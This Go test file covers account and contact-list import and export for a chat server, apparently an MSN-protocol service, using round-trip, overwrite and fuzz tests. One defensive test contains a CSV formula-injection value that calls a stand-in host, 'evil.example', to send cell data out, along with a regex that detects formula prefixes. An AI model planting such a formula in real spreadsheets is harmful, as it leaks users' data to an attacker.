package transfer_test

import (
	"cmp"
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"pgregory.net/rapid"

	"monarch/internal/im"
	"monarch/internal/pgtest"
	"monarch/internal/store"
	"monarch/internal/transfer"
	"monarch/msnp"
)

func openNew(t testing.TB) *store.Store {
	t.Helper()
	return open(t, "sqlite:"+filepath.Join(t.TempDir(), "monarch.db"))
}

func open(t testing.TB, url string) *store.Store {
	t.Helper()
	s, err := store.Open(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return s
}

// world is what a service has.
type world struct {
	Accounts []store.Account
	AllLists []store.Lists
}

func (w *world) Begin(int, int) error          { *w = world{}; return nil }
func (w *world) Account(a store.Account) error { w.Accounts = append(w.Accounts, a); return nil }
func (w *world) Lists(l store.Lists) error     { w.AllLists = append(w.AllLists, l); return nil }

func worldOf(t testing.TB, s *store.Store) world {
	t.Helper()
	var w world
	if err := s.Export(context.Background(), &w); err != nil {
		t.Fatal(err)
	}
	return w
}

var same = gocmp.Options{cmpopts.IgnoreFields(store.Account{}, "Version"), cmpopts.EquateEmpty()}

// drawWorld makes up people who know each other.
func drawWorld(t *rapid.T) world {
	hard := rapid.SampledFrom([]string{"\xff\x01", "50%", "=1+1", "a\r\nb", "♥", "escaped:x", " b ", "\u00a0", "a|b=c", `"quoted"`, "x;y", "\ufeff", "@a"})
	name := rapid.OneOf(rapid.StringN(1, 8, 30), hard)
	group := rapid.OneOf(rapid.StringN(1, 8, msnp.MaxGroupName/3), hard) // escaped, a byte is three
	handle := func(n int) string { return fmt.Sprintf("p%d@example.com", n) }
	n := rapid.IntRange(1, 6).Draw(t, "people")
	var w world
	for i := range n {
		a := store.Account{
			Handle: handle(i), Name: ptr(name.Draw(t, "name")), Disabled: ptr(rapid.Bool().Draw(t, "disabled")),
			LockReason: ptr(rapid.SampledFrom([]string{"", "spam, \"lots\"", "=1+1"}).Draw(t, "reason")), LockedUntil: ptr(rapid.SampledFrom([]int64{0, 4102444800}).Draw(t, "until")),
			PasswordHash: ptr(rapid.SampledFrom([]string{"", argon, escargot}).Draw(t, "hash")),
			Role:         ptr(rapid.SampledFrom([]im.Role{im.NoRole, im.Moderator, im.Administrator}).Draw(t, "role")),
			Created:      ptr(rapid.Int64Range(1, 4e9).Draw(t, "created")),
			Prompt:       ptr(rapid.SampledFrom([]im.Prompt{im.Ask, im.AddSilent}).Draw(t, "prompt")),
			Policy:       ptr(rapid.SampledFrom([]im.Policy{im.AllowOthers, im.BlockOthers}).Draw(t, "policy")),
			Groups:       []im.Group{{Number: 0, Name: "Other Contacts"}},
		}
		for _, g := range rapid.SliceOfNDistinct(group, 0, 3, rapid.ID).Draw(t, "groups") {
			if g != "Other Contacts" {
				a.Groups = append(a.Groups, im.Group{Number: 1 + 3*len(a.Groups), Name: g})
			}
		}
		for _, typ := range rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"MBE", "MOB", "PHH", "WWE"}), 0, 3, rapid.ID).Draw(t, "types") {
			a.Properties = append(a.Properties, im.Property{Type: typ, Value: rapid.OneOf(rapid.StringN(1, 5, 20), hard).Draw(t, "value")})
		}
		slices.SortFunc(a.Properties, func(p, q im.Property) int { return cmp.Compare(p.Type, q.Type) })
		if rapid.Bool().Draw(t, "mailbox") {
			a.Mailbox = &im.Mailbox{Inbox: rapid.IntRange(0, 5).Draw(t, "inbox"), URL: rapid.SampledFrom([]string{"", "https://mail.example.com/"}).Draw(t, "url")}
		}
		w.Accounts = append(w.Accounts, a)
		l := store.Lists{Owner: handle(i)}
		for _, peer := range rapid.SliceOfNDistinct(rapid.IntRange(0, n-1), 0, 4, rapid.ID).Draw(t, "contacts") {
			e := store.Entry{Handle: handle(peer), Name: name.Draw(t, "stored"), Lists: rapid.SampledFrom([]im.List{1, 2, 3, 4, 5}).Draw(t, "lists")}
			if e.Lists&im.Forward != 0 {
				e.Groups = []int{a.Groups[rapid.IntRange(0, len(a.Groups)-1).Draw(t, "group")].Number}
			}
			l.People = append(l.People, e)
		}
		slices.SortFunc(l.People, func(a, b store.Entry) int { return cmp.Compare(a.Handle, b.Handle) })
		if len(l.People) > 0 {
			w.AllLists = append(w.AllLists, l)
		}
	}
	return w
}

func ptr[T any](v T) *T { return &v }

// Hashes of "open sesame".
const (
	argon    = "$argon2id$v=19$m=64,t=1,p=1$c2FsdHNhbHRzYWx0c2FsdA$AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	escargot = "pbkdf2_sha256$24000$0f3b5a8c9d1e2f4$Rfd8Um0mwor8yJO0xvyCdVPbP2ogiiYGfxHmqJaQ6KI="
)

// tell hands a world on as a service does.
func (w world) tell(_ context.Context, to store.Exporter) error {
	n := 0
	for _, l := range w.AllLists {
		n += len(l.People)
	}
	if err := to.Begin(len(w.Accounts), n); err != nil {
		return err
	}
	for _, a := range w.Accounts {
		if err := to.Account(a); err != nil {
			return err
		}
	}
	for _, l := range w.AllLists {
		if err := to.Lists(l); err != nil {
			return err
		}
	}
	return nil
}

// export writes a world to a new file and returns its path.
func (w world) export(t testing.TB, dir, name string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if strings.HasSuffix(name, "/") {
		path += "/"
	}
	if _, err := transfer.Export(context.Background(), path, nil, w.tell); err != nil {
		t.Fatal(err)
	}
	return path
}

func importInto(t testing.TB, s *store.Store, path string, edit func(*transfer.Importer)) (transfer.Summary, error) {
	t.Helper()
	source, err := transfer.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	i := &transfer.Importer{
		Source: source, Store: s,
		Hash: func(_ context.Context, password string) (string, error) { return "hash of " + password, nil },
	}
	if edit != nil {
		edit(i)
	}
	return i.Import(context.Background())
}

func testRoundTrip(t *testing.T, s *store.Store, names ...string) {
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			rapid.Check(t, func(r *rapid.T) {
				dir, err := os.MkdirTemp(t.TempDir(), "")
				if err != nil {
					t.Fatal(err)
				}
				empty(t, s)
				w := drawWorld(r)
				sum, err := importInto(t, s, w.export(t, dir, name), nil)
				if err != nil {
					r.Fatalf("%v: %+v", err, sum.Findings)
				}
				if diff := gocmp.Diff(w, worldOf(t, s), same); diff != "" {
					r.Fatal(diff)
				}
				again := worldOf(t, s).export(t, dir, "again"+name)
				if sum, err := importInto(t, s, again, func(i *transfer.Importer) { i.Conflict = store.Keep }); err != nil || sum.New+sum.Listed != 0 {
					r.Fatalf("again: %+v, %v", sum, err)
				}
				if _, err := importInto(t, s, again, func(i *transfer.Importer) { i.Conflict = store.Replace }); err != nil {
					r.Fatal(err)
				}
				if diff := gocmp.Diff(w, worldOf(t, s), same); diff != "" {
					r.Fatalf("replaced: %s", diff)
				}
			})
		})
	}
}

func empty(t testing.TB, s *store.Store) {
	users, err := s.Users(context.Background(), "", 100)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range users {
		if err := s.DeleteUser(context.Background(), u.ID); err != nil {
			t.Fatal(err)
		}
	}
}

func TestWhatIsExportedIsImported(t *testing.T) {
	testRoundTrip(t, openNew(t), "all.jsonl", "all.json.gz", "all/")
}

func TestWhatIsExportedIsImportedOnPostgres(t *testing.T) {
	server := pgtest.Start(t)
	name, err := server.Create("")
	if err != nil {
		t.Fatal(err)
	}
	testRoundTrip(t, open(t, server.URL(name)), "all.jsonl")
}

// People choose their addresses and names themselves. A spreadsheet must not compute them, wherever it
// takes a new cell to begin.
func TestNoCellIsComputed(t *testing.T) {
	const formula = `=webservice("http://evil.example/"&d2)&@x.example`
	w := world{
		Accounts: []store.Account{blank(formula, "Bob;=1+1"), blank("b@example.com", "smile ;)")},
		AllLists: []store.Lists{{Owner: formula, People: []store.Entry{{Handle: formula, Name: "a; @b", Lists: im.Forward, Groups: []int{0}}}}},
	}
	dir := w.export(t, t.TempDir(), "all/")
	for _, name := range []string{"accounts.csv", "contacts.csv"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if found := regexp.MustCompile(`(^|[\n,;"])\s*[=+@-].*`).Find(b); found != nil {
			t.Errorf("%s: a spreadsheet computes %s", name, found)
		}
	}
	s := openNew(t)
	if sum, err := importInto(t, s, dir, nil); err != nil {
		t.Fatalf("%v: %+v", err, sum.Findings)
	}
	if diff := gocmp.Diff(w, worldOf(t, s), same); diff != "" {
		t.Error(diff)
	}
}

// blank is an account of which everything is as usual.
func blank(handle, name string) store.Account {
	return store.Account{
		Handle: handle, Name: &name, Disabled: ptr(false), LockReason: ptr(""), LockedUntil: ptr(int64(0)), PasswordHash: ptr(""), Role: ptr(im.NoRole),
		Created: ptr(int64(1)), Prompt: ptr(im.Ask), Policy: ptr(im.AllowOthers), Groups: []im.Group{{Number: 0, Name: "Other Contacts"}},
	}
}

func TestAnExportIsNotWrittenOverAFile(t *testing.T) {
	dir := t.TempDir()
	path := world{}.export(t, dir, "all.jsonl")
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("its mode is %v, %v", info.Mode(), err)
	}
	if _, err := transfer.Export(t.Context(), path, nil, world{}.tell); err == nil || !strings.Contains(err.Error(), "choose another name") {
		t.Errorf("over it: %v", err)
	}
	broken := func(context.Context, store.Exporter) error { return fs.ErrClosed }
	if _, err := transfer.Export(t.Context(), filepath.Join(dir, "half.jsonl"), nil, broken); err == nil {
		t.Error("a half was written")
	}
	if _, err := transfer.Export(t.Context(), filepath.Join(dir, "accounts.txt"), nil, world{}.tell); err == nil || !strings.Contains(err.Error(), ".jsonl") {
		t.Errorf("a name that says nothing: %v", err)
	}
	left, err := os.ReadDir(dir)
	if err != nil || len(left) != 1 {
		t.Errorf("%v, %v are left", left, err)
	}
}

// FuzzRead looks for a file that breaks the reading of it.
func FuzzRead(f *testing.F) {
	f.Add(head + `{"account":"a@example.com","name":{"escaped":"%FF"},"groups":[{"number":1,"name":"G"}]}` + "\n" +
		`{"contacts_of":"a@example.com","contacts":[{"account":"a@example.com","lists":["FL"],"groups":[1]}]}`)
	f.Add(head + `{"account":"a@example.com","created":"2026-01-02T03:04:05Z","properties":{"PHH":"1"},"mailbox":{"unread_inbox":1}}`)
	f.Add("email,nick,password\na@example.com,A,secret\n")
	f.Add("email;groups;unread_inbox\na@example.com;0=escaped:%41|1=B;3\n")
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, content string) {
		path := filepath.Join(dir, "all.csv")
		if strings.HasPrefix(content, "{") {
			path = filepath.Join(dir, "all.jsonl")
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		source, err := transfer.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		err = source.Read(t.Context(), func(i transfer.Item) error {
			if i.Where == "" || i.Account == nil && i.Lists == nil && len(i.Findings) == 0 {
				t.Errorf("an item that says nothing: %+v", i)
			}
			return nil
		})
		if done, total := source.Position(); err == nil && done != total {
			t.Errorf("read %d of %d", done, total)
		}
	})
}

// compare tells how two services differ, of accounts made at about the same time.
func compare(a, b world) string {
	return gocmp.Diff(a, b, same, cmpopts.IgnoreFields(store.Account{}, "Created"))
}
